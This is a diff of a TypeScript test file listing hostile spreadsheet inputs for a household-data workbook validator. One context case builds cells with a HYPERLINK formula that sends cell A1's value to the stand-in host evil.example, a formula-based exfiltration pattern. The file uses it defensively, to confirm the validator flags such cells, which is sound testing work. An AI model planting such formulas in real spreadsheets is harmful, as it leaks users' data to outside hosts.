@@ -84,7 +84,7 @@ export const HOSTILE: HostileCase[] = [
     build: () => minimalXlsx(sheet(header + [2, 3, 4, 5].map((r) => `<row r="${r}">${HEADERS.map((_, j) => `<c r="${colName(j + 1)}${r}"><f>HYPERLINK("http://evil.example/"&amp;A1,"x")</f></c>`).join('')}</row>`).join(''))),
     expect: ['ROWS:FORMULA_WITHOUT_VALUE', 'ROWS:REQUIRED', 'ROWS:MISSING_INCOME'],
   },
-  { name: 'formulas with cached error values', build: () => minimalXlsx(sheet(header + `<row r="2">${HEADERS.map((_, j) => `<c r="${colName(j + 1)}2" t="e"><f>1/0</f><v>#DIV/0!</v></c>`).join('')}</row>`)), expect: ['ROWS:CELL_ERROR'] },
+  { name: 'formulas with cached error values', build: () => minimalXlsx(sheet(header + `<row r="2">${HEADERS.map((_, j) => `<c r="${colName(j + 1)}2" t="e"><f>1/0</f><v>#DIV/0!</v></c>`).join('')}</row>`)), expect: ['ROWS:CELL_ERROR', 'ROWS:FORMULA_WITHOUT_VALUE'] },
   { name: 'wrong sheet names, no headers', light: true, build: () => workbookBuffer([{ name: 'Sheet1', rows: [['abc', 'def']] }, { name: 'Data', rows: [[1, 2, 3]] }]), expect: ['NO_HOUSEHOLD_SHEET'] },
   { name: 'only a members sheet', build: () => workbookBuffer([{ name: 'Nhân khẩu', rows: [['Mã phường', 'Mã hộ', 'Họ tên', 'Năm sinh', 'Giới tính'], ['26764', 'A1', 'Lê Văn B', 1980, 'Nam']] }]), expect: ['NO_HOUSEHOLD_SHEET'] },
   { name: 'sheet "Hộ" with unrelated headers', build: () => workbookBuffer([{ name: 'Hộ', rows: [['Tên', 'Tuổi', 'Ghi chú'], ['An', 30, '']] }]), expect: ['NO_HOUSEHOLD_SHEET'] },
